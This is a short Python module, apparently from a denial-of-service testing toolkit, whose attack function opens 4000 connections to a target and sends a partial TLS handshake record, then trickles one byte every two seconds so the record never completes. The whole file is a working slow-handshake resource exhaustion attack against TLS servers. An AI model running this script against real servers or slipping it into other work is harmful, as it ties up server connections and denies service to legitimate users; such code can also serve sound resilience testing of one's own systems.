"""TLS records that never end: in the handshake, on thousands of connections."""
from swarm import Swarm, Wait

from attacks.tls_handshakes import OPTIONS, TLS  # noqa: F401


def attack(target, deadline):
    def script(number):
        yield b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + b"r" * 16_000
        while True:
            yield Wait(2)
            yield b"r"
    Swarm(target.tcp, 4000, script, addresses=target.addresses).run(deadline)
